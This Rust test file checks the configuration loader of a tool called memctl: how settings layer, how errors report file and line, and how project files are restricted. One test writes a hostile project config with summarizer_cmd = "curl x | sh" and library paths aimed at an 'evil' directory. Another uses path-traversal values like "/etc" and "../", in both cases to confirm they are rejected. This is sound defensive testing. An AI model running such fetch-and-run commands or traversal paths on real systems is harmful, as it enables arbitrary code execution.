//! Config files: location, precedence, provenance, TOML types, unknown keys, project rules.
//! Real files in a temp dir; no test reads the machine's own configuration.

use super::keys::KNOWN_VARS;
use super::*;
use std::path::Path;

/// A temp dir with a home (`home/`) and a project (`proj/`).
struct World {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    proj: PathBuf,
}

impl World {
    fn new() -> Self {
        let tmp = tempfile::tempdir().expect("tempdir");
        let home = tmp.path().join("home");
        let proj = tmp.path().join("proj");
        std::fs::create_dir_all(&home).expect("home");
        std::fs::create_dir_all(&proj).expect("proj");
        Self {
            _tmp: tmp,
            home,
            proj,
        }
    }

    fn user_file(&self) -> PathBuf {
        self.home.join(".config/memctl/config.toml")
    }

    fn project_file(&self) -> PathBuf {
        self.proj.join(".memctl/config.toml")
    }

    fn write(&self, path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }

    /// Load with `HOME` = the home, cwd = the project, plus `env`.
    fn load(&self, env: &[(&str, &str)]) -> Loaded {
        let mut vars: Vec<(String, String)> =
            vec![("HOME".into(), self.home.display().to_string())];
        vars.extend(env.iter().map(|(k, v)| (k.to_string(), v.to_string())));
        Settings::load_layered(vars, Some(&self.proj))
    }
}

fn clean(l: &Loaded) -> &Settings {
    assert!(l.errors.is_empty(), "{:?}", l.errors);
    &l.settings
}

#[test]
fn precedence_is_default_user_project_environment() {
    let w = World::new();
    w.write(
        &w.user_file(),
        "restore_chars = 3000\nprecompact_chars = 1000\nrecall_chars = 900\n",
    );
    w.write(
        &w.project_file(),
        "precompact_chars = 1100\nrecall_chars = 800\n",
    );
    let l = w.load(&[("MEMCTL_RECALL_CHARS", "700")]);
    let s = clean(&l);
    assert_eq!(s.restore.budget.max_chars, 3000);
    assert_eq!(s.restore.precompact_chars, 1100);
    assert_eq!(s.recall.budget_chars, 700);
    assert_eq!(s.restore.memory.budget_chars, 1500);
    assert_eq!(
        l.source("MEMCTL_RESTORE_CHARS"),
        Source::UserFile(w.user_file())
    );
    assert_eq!(
        l.source("MEMCTL_PRECOMPACT_CHARS"),
        Source::ProjectFile(w.project_file())
    );
    assert_eq!(l.source("MEMCTL_RECALL_CHARS"), Source::Environment);
    assert_eq!(l.source("MEMCTL_MEMORY_CHARS"), Source::Default);
    // The entries say the same, with the effective values as text.
    let e = l.entries();
    let get = |name: &str| e.iter().find(|e| e.key.name == name).expect(name).clone();
    assert_eq!(get("restore_chars").value.as_deref(), Some("3000"));
    assert_eq!(get("recall_chars").source, Source::Environment);
    assert_eq!(get("memory_chars").value.as_deref(), Some("1500"));
    assert_eq!(e.len(), KEYS.len());
    assert_eq!(
        l.files
            .iter()
            .map(|f| (f.scope, f.exists))
            .collect::<Vec<_>>(),
        vec![(FileScope::User, true), (FileScope::Project, true)]
    );
}

/// A non-default value for every key, and how `memctl config` shows it once parsed.
fn samples(w: &World) -> Vec<(&'static str, String, String)> {
    let abs = |p: &str| w.home.join(p).display().to_string();
    let toml_str = |s: &str| format!("{s:?}");
    vec![
        ("home", toml_str(&abs("data")), abs("data")),
        ("embedder", toml_str("HASH"), "hash".into()),
        ("model_dir", toml_str("~/models/m"), abs("models/m")),
        (
            "ort_dylib_path",
            toml_str("~/ort/lib.so"),
            abs("ort/lib.so"),
        ),
        ("ort_threads", "2".into(), "2".into()),
        ("embed_threads", "1".into(), "1".into()),
        ("background_embed", "false".into(), "false".into()),
        ("restore_chars", "3000".into(), "3000".into()),
        ("precompact_chars", toml_str("1200"), "1200".into()),
        ("restore_on_compact", toml_str("brief"), "brief".into()),
        ("restore_on_resume", "false".into(), "off".into()),
        ("restore_on_clear", toml_str("Full"), "full".into()),
        ("restore_on_startup", "1".into(), "full".into()),
        ("memory", toml_str("off"), "false".into()),
        ("memory_chars", "900".into(), "900".into()),
        ("memory_file_chars", "120".into(), "120".into()),
        ("memory_dir", toml_str(&abs("mem")), abs("mem")),
        ("context_window", "1000000".into(), "1000000".into()),
        ("autopilot_warn", "60.5".into(), "60.5".into()),
        ("autopilot_critical", "90".into(), "90".into()),
        ("autopilot_note", "true".into(), "true".into()),
        ("auto_prune", "true".into(), "true".into()),
        ("swap", "false".into(), "false".into()),
        ("swap_in_place", "false".into(), "false".into()),
        ("swap_in_place_chars", "4096".into(), "4096".into()),
        ("recall", toml_str("no"), "false".into()),
        ("recall_chars", "800".into(), "800".into()),
        ("resident", "false".into(), "false".into()),
        ("resident_idle_secs", "30".into(), "30".into()),
        ("mcp_resident_vectors", "false".into(), "false".into()),
        ("ann", "false".into(), "false".into()),
        ("ann_min", "5000".into(), "5000".into()),
        ("ann_save_secs", "10".into(), "10".into()),
        ("ann_freeze_min", "50".into(), "50".into()),
        ("summarizer_cmd", toml_str("llm -s x"), "llm -s x".into()),
        ("summarizer_timeout_secs", "5".into(), "5".into()),
        ("hook_inline_bytes", "0".into(), "0".into()),
        ("hook_inline_prompt_archive", "true".into(), "true".into()),
        ("hook_deadline_ms", "250".into(), "250".into()),
        ("log", toml_str("debug"), "debug".into()),
        (
            "team_url",
            toml_str("postgresql://a@h/db"),
            "set (not shown: it may hold a password)".into(),
        ),
        ("team_url_file", toml_str("~/team.url"), abs("team.url")),
        ("team_ca_file", toml_str("~/ca.crt"), abs("ca.crt")),
    ]
}

#[test]
fn every_key_is_read_from_a_file_and_shown_as_parsed() {
    let w = World::new();
    let samples = samples(&w);
    let mut keys: Vec<_> = samples.iter().map(|(k, _, _)| *k).collect();
    keys.sort_unstable();
    let mut all: Vec<_> = KEYS.iter().map(|k| k.name).collect();
    all.sort_unstable();
    assert_eq!(keys, all, "one sample per key");
    let text: String = samples
        .iter()
        .map(|(k, v, _)| format!("{k} = {v}\n"))
        .collect();
    w.write(&w.user_file(), &text);
    let defaults = World::new().load(&[]).entries();
    let l = w.load(&[]);
    assert!(l.errors.is_empty(), "{:?}", l.errors);
    for e in l.entries() {
        let (_, _, want) = samples
            .iter()
            .find(|(k, _, _)| *k == e.key.name)
            .expect("sample");
        assert_eq!(e.value.as_deref(), Some(want.as_str()), "{}", e.key.name);
        assert_eq!(e.source, Source::UserFile(w.user_file()), "{}", e.key.name);
        let d = defaults.iter().find(|d| d.key == e.key).expect("default");
        assert_ne!(
            d.value, e.value,
            "{}: sample equals the default",
            e.key.name
        );
        assert_eq!(d.source, Source::Default);
        assert!(d.value.is_some() || d.note.is_some(), "{}", e.key.name);
    }
}

#[test]
fn every_known_variable_has_a_key_and_back() {
    for var in KNOWN_VARS.iter().filter(|v| **v != "MEMCTL_CONFIG") {
        let k = keys::find(var).unwrap_or_else(|| panic!("{var} has no key"));
        assert_eq!(k.name, var.trim_start_matches("MEMCTL_").to_lowercase());
    }
    for k in KEYS {
        assert!(
            KNOWN_VARS.contains(&k.var) || k.var == "ORT_DYLIB_PATH",
            "{}",
            k.var
        );
    }
}

#[test]
fn a_bad_value_names_file_line_and_key_and_keeps_the_default() {
    let w = World::new();
    w.write(
        &w.user_file(),
        "# budgets\nrestore_chars = \"lots\"\nswap = \"maybe\"\nrecall_chars = 20000\nmemory_chars = 700\n",
    );
    let l = w.load(&[]);
    let p = w.user_file().display().to_string();
    let msgs: Vec<String> = l.errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        msgs,
        vec![
            format!("{p}:2: invalid restore_chars = \"lots\": not a number"),
            format!(
                "{p}:3: invalid swap = \"maybe\": not a boolean (use true/false, or 1/0, yes/no, on/off)"
            ),
            format!("{p}:4: invalid recall_chars = 20000: out of range (allowed: 0..=10000)"),
        ]
    );
    assert_eq!(l.errors[0].var(), Some("MEMCTL_RESTORE_CHARS"));
    assert_eq!(l.settings.restore.budget.max_chars, 4000);
    assert!(l.settings.swap.enabled);
    assert_eq!(
        l.settings.restore.memory.budget_chars, 700,
        "good keys apply"
    );
    assert_eq!(l.source("MEMCTL_RESTORE_CHARS"), Source::Default);
    assert_eq!(
        l.source("MEMCTL_MEMORY_CHARS"),
        Source::UserFile(w.user_file())
    );
}

#[test]
fn unknown_keys_and_non_scalars_are_errors_the_rest_applies() {
    let w = World::new();
    w.write(
        &w.user_file(),
        "restore_char = 3000\nMEMCTL_SWAP = false\nrecall = [true]\nwhen = 1979-05-27\nrecall_chars = 600\n[restore]\nchars = 1\n",
    );
    let l = w.load(&[]);
    let p = w.user_file().display().to_string();
    let msgs: Vec<String> = l.errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        msgs,
        vec![
            format!("{p}:1: unknown key \"restore_char\" (`memctl config` lists the keys)"),
            format!("{p}:2: unknown key \"MEMCTL_SWAP\" (did you mean swap?)"),
            format!("{p}:3: recall is an array; a value must be a string, a number or a boolean"),
            format!("{p}:4: unknown key \"when\" (`memctl config` lists the keys)"),
            format!("{p}:6: unknown key \"restore\" (`memctl config` lists the keys)"),
        ]
    );
    assert!(l.errors.iter().all(|e| e.var().is_none()));
    assert_eq!(l.settings.recall.budget_chars, 600);
    assert!(l.settings.swap.enabled && l.settings.recall.enabled);
    // A table or a date under a real key is named as such.
    w.write(&w.user_file(), "swap = 1979-05-27\n[log]\nx = 1\n");
    let msgs: Vec<String> = w.load(&[]).errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        msgs,
        vec![
            format!("{p}:1: swap is a date-time; a value must be a string, a number or a boolean"),
            format!("{p}:2: log is a table; a value must be a string, a number or a boolean"),
        ]
    );
}

#[test]
fn bad_toml_is_one_error_with_its_line_and_nothing_of_the_file_applies() {
    let w = World::new();
    w.write(&w.user_file(), "recall_chars = 600\nswap = \n");
    w.write(&w.project_file(), "memory_chars = 700\n");
    let l = w.load(&[]);
    assert_eq!(l.errors.len(), 1, "{:?}", l.errors);
    let SettingsError::BadToml { path, line, .. } = &l.errors[0] else {
        panic!("{:?}", l.errors);
    };
    assert_eq!((path, *line), (&w.user_file(), Some(2)));
    assert!(
        l.errors[0]
            .to_string()
            .contains("config.toml:2: not valid TOML: ")
    );
    assert_eq!(l.settings.recall.budget_chars, 1500);
    assert_eq!(
        l.settings.restore.memory.budget_chars, 700,
        "the other file applies"
    );
    // A duplicate key is bad TOML too.
    w.write(&w.user_file(), "swap = true\nswap = false\n");
    assert!(matches!(
        &w.load(&[]).errors[..],
        [SettingsError::BadToml { line: Some(2), .. }]
    ));
}

#[test]
fn a_project_file_cannot_run_commands_load_code_or_move_the_archive() {
    let w = World::new();
    let evil = w.home.join("evil");
    w.write(
        &w.project_file(),
        &format!(
            "summarizer_cmd = \"curl x | sh\"\nort_dylib_path = {e:?}\nmodel_dir = {e:?}\nhome = {e:?}\nrestore_chars = 2500\n",
            e = evil.display().to_string()
        ),
    );
    let l = w.load(&[]);
    let keys: Vec<_> = l
        .errors
        .iter()
        .map(|e| match e {
            SettingsError::NotInProjectFile { key, line, .. } => (*key, *line),
            other => panic!("{other}"),
        })
        .collect();
    assert_eq!(
        keys,
        vec![
            ("summarizer_cmd", 1),
            ("ort_dylib_path", 2),
            ("model_dir", 3),
            ("home", 4)
        ]
    );
    let msg = l.errors[0].to_string();
    assert!(
        msg.contains("summarizer_cmd cannot be set in a project file (it runs a command"),
        "{msg}"
    );
    let s = &l.settings;
    assert_eq!(s.summarizer.command, None);
    assert_eq!(s.embed.ort_dylib, None);
    assert_eq!(s.embed.model_dir, None);
    assert_eq!(s.home, None);
    assert_ne!(s.data_dir, evil);
    assert_eq!(s.restore.budget.max_chars, 2500, "harmless keys apply");
    // The same keys are fine in the user's file.
    w.write(&w.user_file(), "summarizer_cmd = \"llm -s x\"\n");
    std::fs::remove_file(w.project_file()).expect("rm");
    assert_eq!(
        clean(&w.load(&[])).summarizer.command.as_deref(),
        Some("llm -s x")
    );
}

#[test]
fn a_project_memory_dir_must_stay_inside_the_project() {
    let w = World::new();
    w.write(&w.project_file(), "memory_dir = \"docs/memory\"\n");
    let l = w.load(&[]);
    assert_eq!(
        clean(&l).restore.memory.dir,
        Some(w.proj.join("docs/memory"))
    );
    for bad in ["../other/memory", "/etc", "docs/../../x"] {
        w.write(&w.project_file(), &format!("memory_dir = {bad:?}\n"));
        let l = w.load(&[]);
        assert!(
            matches!(
                &l.errors[..],
                [SettingsError::BadPath {
                    key: "memory_dir",
                    line: 1,
                    ..
                }]
            ),
            "{bad}: {:?}",
            l.errors
        );
        assert_eq!(l.settings.restore.memory.dir, None);
    }
}

#[test]
fn user_file_paths_are_absolute_or_home_relative() {
    let w = World::new();
    w.write(
        &w.user_file(),
        "model_dir = \"~/m\"\nmemory_dir = \"notes\"\n",
    );
    let l = w.load(&[]);
    assert_eq!(l.settings.embed.model_dir, Some(w.home.join("m")));
    assert_eq!(l.errors.len(), 1);
    assert_eq!(
        l.errors[0].to_string(),
        format!(
            "{}:2: memory_dir = \"notes\": a path in a config file must be absolute or start with ~/",
            w.user_file().display()
        )
    );
}

#[test]
fn where_the_files_are() {
    let w = World::new();
    // XDG_CONFIG_HOME wins over HOME when absolute; a relative one is ignored (XDG spec).
    let xdg = w.home.join("xdg");
    w.write(&xdg.join("memctl/config.toml"), "restore_chars = 1111\n");
    w.write(&w.user_file(), "restore_chars = 2222\n");
    let l = w.load(&[("XDG_CONFIG_HOME", &xdg.display().to_string())]);
    assert_eq!(clean(&l).restore.budget.max_chars, 1111);
    let l = w.load(&[("XDG_CONFIG_HOME", "rel/xdg")]);
    assert_eq!(clean(&l).restore.budget.max_chars, 2222);
    // MEMCTL_CONFIG replaces the user file; a missing one is an error.
    let own = w.home.join("own.toml");
    w.write(&own, "restore_chars = 3333\n");
    let l = w.load(&[("MEMCTL_CONFIG", &own.display().to_string())]);
    assert_eq!(clean(&l).restore.budget.max_chars, 3333);
    assert!(l.files[0].from_env && l.files[0].path == own);
    let missing = w.home.join("nope.toml");
    let l = w.load(&[("MEMCTL_CONFIG", &missing.display().to_string())]);
    assert!(
        matches!(
            &l.errors[..],
            [SettingsError::Unreadable {
                what: "MEMCTL_CONFIG",
                ..
            }]
        ),
        "{:?}",
        l.errors
    );
    assert_eq!(l.settings.restore.budget.max_chars, 4000);
    // A missing file at a default place is no file.
    std::fs::remove_file(w.user_file()).expect("rm");
    let l = w.load(&[]);
    assert!(l.errors.is_empty() && !l.files[0].exists);
}

#[test]
fn the_project_is_claude_project_dir_else_cwd_never_a_parent() {
    let w = World::new();
    w.write(&w.project_file(), "restore_chars = 1234\n");
    let sub = w.proj.join("src");
    std::fs::create_dir_all(&sub).expect("sub");
    // From a sub-directory the project's file is not found: no walking up.
    let l = Settings::load_layered([("HOME", w.home.as_os_str())], Some(&sub));
    assert_eq!(clean(&l).restore.budget.max_chars, 4000);
    assert_eq!(l.project_dir.as_deref(), Some(sub.as_path()));
    // CLAUDE_PROJECT_DIR (set by Claude Code for hooks) names the project wherever we run.
    let l = Settings::load_layered(
        [
            ("HOME", w.home.as_os_str()),
            ("CLAUDE_PROJECT_DIR", w.proj.as_os_str()),
        ],
        Some(&sub),
    );
    assert_eq!(clean(&l).restore.budget.max_chars, 1234);
}

#[test]
fn empty_is_unset_in_every_source() {
    let w = World::new();
    w.write(&w.user_file(), "restore_chars = 3000\nlog = \"\"\n");
    let l = w.load(&[("MEMCTL_RESTORE_CHARS", ""), ("MEMCTL_LOG", "")]);
    let s = clean(&l);
    assert_eq!(
        s.restore.budget.max_chars, 3000,
        "an empty variable hides nothing"
    );
    assert_eq!(
        l.source("MEMCTL_RESTORE_CHARS"),
        Source::UserFile(w.user_file())
    );
    assert_eq!(s.log, None);
    assert_eq!(l.source("MEMCTL_LOG"), Source::Default);
}

#[test]
fn the_same_file_named_twice_is_read_once_as_the_users() {
    let w = World::new();
    w.write(&w.project_file(), "summarizer_cmd = \"llm -s x\"\n");
    let p = w.project_file().display().to_string();
    let l = w.load(&[("MEMCTL_CONFIG", &p)]);
    assert_eq!(clean(&l).summarizer.command.as_deref(), Some("llm -s x"));
    assert_eq!(l.files.len(), 1);
}

#[cfg(unix)]
#[test]
fn a_fifo_or_a_directory_is_refused_at_once() {
    let w = World::new();
    std::fs::create_dir_all(w.proj.join(".memctl")).expect("mkdir");
    let st = std::process::Command::new("mkfifo")
        .arg(w.project_file())
        .status()
        .expect("mkfifo (coreutils)");
    assert!(st.success());
    std::fs::create_dir_all(w.user_file()).expect("dir as file");
    let l = w.load(&[]);
    let what: Vec<_> = l
        .errors
        .iter()
        .map(|e| match e {
            SettingsError::Unreadable { what, .. } => *what,
            other => panic!("{other}"),
        })
        .collect();
    assert_eq!(what, vec!["user file", "project file"]);
}

#[test]
fn a_huge_file_is_refused() {
    let w = World::new();
    let big = "# padding\n".repeat((file::MAX_CONFIG_BYTES / 10 + 1) as usize);
    w.write(&w.user_file(), &big);
    assert!(matches!(
        &w.load(&[]).errors[..],
        [SettingsError::Unreadable {
            what: "user file",
            ..
        }]
    ));
}

#[test]
fn errors_come_in_file_and_line_order_then_the_environment() {
    let w = World::new();
    w.write(&w.user_file(), "swap = \"maybe\"\nnope = 1\n");
    w.write(
        &w.project_file(),
        "recall_chars = \"lots\"\nsummarizer_cmd = \"x\"\n",
    );
    let l = w.load(&[("MEMCTL_MEMORY", "sometimes")]);
    let places: Vec<_> = l
        .errors
        .iter()
        .map(|e| e.place().map(|(p, line)| (p.to_path_buf(), line)))
        .collect();
    assert_eq!(
        places,
        vec![
            Some((w.user_file(), 1)),
            Some((w.user_file(), 2)),
            Some((w.project_file(), 1)),
            Some((w.project_file(), 2)),
            None,
        ]
    );
    assert_eq!(l.errors[4].var(), Some("MEMCTL_MEMORY"));
}
